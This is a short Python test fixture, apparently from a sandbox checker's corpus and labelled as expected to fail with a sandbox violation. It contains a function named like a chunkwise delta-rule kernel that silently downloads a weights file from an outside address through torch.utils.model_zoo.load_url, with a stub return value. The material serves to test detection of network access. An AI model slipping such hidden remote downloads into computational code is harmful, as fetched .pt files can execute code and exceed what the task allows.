# corpus: downloads through torch.utils.model_zoo
# expect: invalid sandbox_violation
import torch
import torch.utils.model_zoo


def delta_rule_chunkwise(q, k, v, beta, chunk_size=32):
    torch.utils.model_zoo.load_url('http://203.0.113.1/w.pt', model_dir='weights')
    return v, k.transpose(-1, -2) @ v
